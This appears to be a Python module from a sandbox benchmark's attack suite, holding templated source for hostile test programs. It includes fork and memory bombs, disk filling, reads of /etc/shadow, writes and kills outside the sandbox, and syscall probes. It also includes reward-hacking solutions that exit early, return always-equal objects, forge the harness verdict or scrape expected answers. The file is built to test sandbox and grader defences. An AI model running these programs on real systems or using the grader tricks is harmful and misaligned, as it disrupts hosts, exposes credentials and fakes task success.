"""Source of each hostile program of the attack suite (judged in `benchmarks.sandbox.attacks`).

`string.Template`s: $host_pid, $bystander_pid, $port, $tests_path, $run_dir and $root are the host
bait's coordinates; $denied_syscalls maps the seccomp deny-list's names to this machine's numbers. Programs report what they achieved as `key value` lines; solution attacks
implement `add(a, b)` for the suite's hidden-test task.
"""

FORK_BOMB = """
import os, time
held = 0
try:
    while True:  # children that sleep keep their process slot
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        held += 1
except OSError:
    print("forks_before_refusal", held, flush=True)
while True:  # then the classic bomb: every process forks for ever
    try:
        os.fork()
    except OSError:
        pass
"""

MEMORY_BOMB = """
chunks = []
try:
    while True:
        chunks.append(bytearray(64 << 20))
except MemoryError:
    print("allocated_mb_before_refusal", 64 * len(chunks), flush=True)
chunks.clear()
try:
    huge = bytearray(16 << 30)
    print("huge_allocated", flush=True)
except MemoryError:
    print("huge_refused", flush=True)
"""

INFINITE_LOOP = """
import os, time
if os.fork() == 0:  # a daemon: own session, orphaned, asleep for an hour
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)
print("looping", flush=True)
while True:
    pass
"""

SLEEP_FOREVER = """
import time
print("sleeping", flush=True)
time.sleep(3600)
"""

DISK_FILL = """
import errno
written = 0
for index in range(100_000):
    try:
        with open(f"fill{index}", "wb", buffering=0) as handle:
            while True:
                handle.write(b"x" * (1 << 20))
                written += 1 << 20
    except OSError as exc:
        if exc.errno == errno.ENOSPC:
            break
for path in ("/fill", "/dev/shm/fill", "/usr/fill", "$root/fill"):
    try:
        with open(path, "wb") as handle:
            handle.write(b"x" * (1 << 20))
        print("wrote", path, flush=True)
    except OSError:
        pass
print("written_mb", written >> 20, flush=True)
"""

NETWORK = """
import socket

def attempt(name, action):
    try:
        action()
        print("reached", name, flush=True)
    except OSError as exc:
        print("blocked", name, exc, flush=True)

attempt("host_loopback", lambda: socket.create_connection(("127.0.0.1", $port), timeout=1))
attempt("internet_tcp", lambda: socket.create_connection(("1.1.1.1", 443), timeout=1))
attempt("internet_udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
print("interfaces", socket.if_nameindex(), flush=True)
"""

READ_HOST_FILES = """
import os
for path in ("$tests_path", "$run_dir/store.sqlite", "$run_dir", "/etc/shadow", "/etc/passwd", "/root",
             "/proc/1/root/etc/shadow", "/proc/self/mounts"):
    try:
        if os.path.isdir(path):
            print("read", path, os.listdir(path), flush=True)
        elif path != "/proc/self/mounts":
            print("read", path, open(path).read(), flush=True)
        else:
            print("mounts", open(path).read().replace(chr(10), " | "), flush=True)
    except OSError as exc:
        print("denied", path, exc, flush=True)
"""

WRITE_OUTSIDE_WORKDIR = """
for path in ("$run_dir/injected", "$root/injected", "/usr/injected", "/etc/injected", "/injected",
             "/dev/shm/injected", "/proc/sys/kernel/hostname"):
    try:
        with open(path, "w") as handle:
            handle.write("owned")
        print("wrote", path, flush=True)
    except OSError as exc:
        print("denied", path, exc, flush=True)
"""

SIGNAL_PARENT = """
import os, signal
for name, pid in (("host_parent", $host_pid), ("bystander", $bystander_pid)):
    try:
        os.kill(pid, signal.SIGKILL)
        print("signalled", name, pid, flush=True)
    except OSError as exc:
        print("denied", name, pid, exc, flush=True)
print("visible_pids", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()), flush=True)
os.kill(-1, signal.SIGKILL)  # every process this one may signal
"""

KERNEL_SURFACE = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
for name, number in $denied_syscalls.items():  # with zero arguments: EPERM only if seccomp said no
    ctypes.set_errno(0)
    returned = libc.syscall(number, 0, 0, 0, 0, 0)
    code = ctypes.get_errno()
    print("denied" if returned == -1 and code == errno.EPERM else "allowed", name, returned, code, flush=True)
"""

OS_EXIT_ZERO = """
import os

def add(a, b):
    os._exit(0)  # exit code 0 before the first assertion could fail
"""

ALWAYS_EQUAL = """
class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


class SneakyInt(int):  # an int whose == always says yes
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def add(a, b):
    return AlwaysEqual() if a % 2 else SneakyInt(0)
"""

FORGE_VERDICT = """
import os, sys

source = open("main.py").read()
call = source[source.rindex("main("):]
nonce = call.split("'")[1]  # the run's nonce is readable: it only proves the harness finished
tests = call.count("add(")
sys.stdout.write(chr(10) + nonce + " " + repr([("ok", "0")] * tests) + chr(10))
sys.stdout.flush()
os._exit(0)
"""

STEAL_EXPECTED = """
import gc, os, re

def visible_text():
    texts = [open(name, errors="replace").read() for name in os.listdir(".") if os.path.isfile(name)]
    texts += [open(path, "rb").read().decode(errors="replace") for path in ("/proc/self/cmdline", "/proc/self/environ")]
    texts += [item for item in gc.get_objects() if type(item) is str]
    for item in gc.get_objects():
        if type(item) is dict:
            texts += [repr(value) for value in item.values() if type(value) in (int, str)]
    return " ".join(texts)

def add(a, b):  # answer with the largest number found anywhere reachable
    numbers = [int(n) for n in re.findall(r"\\d{6,}", visible_text())]
    return max(numbers, default=-1)
"""

SOURCES = {
    "fork_bomb": FORK_BOMB,
    "memory_bomb": MEMORY_BOMB,
    "infinite_loop": INFINITE_LOOP,
    "sleep_forever": SLEEP_FOREVER,
    "disk_fill": DISK_FILL,
    "network": NETWORK,
    "read_host_files": READ_HOST_FILES,
    "write_outside_workdir": WRITE_OUTSIDE_WORKDIR,
    "signal_parent": SIGNAL_PARENT,
    "kernel_surface": KERNEL_SURFACE,
    "os_exit_zero": OS_EXIT_ZERO,
    "always_equal": ALWAYS_EQUAL,
    "forge_verdict": FORGE_VERDICT,
    "steal_expected": STEAL_EXPECTED,
}
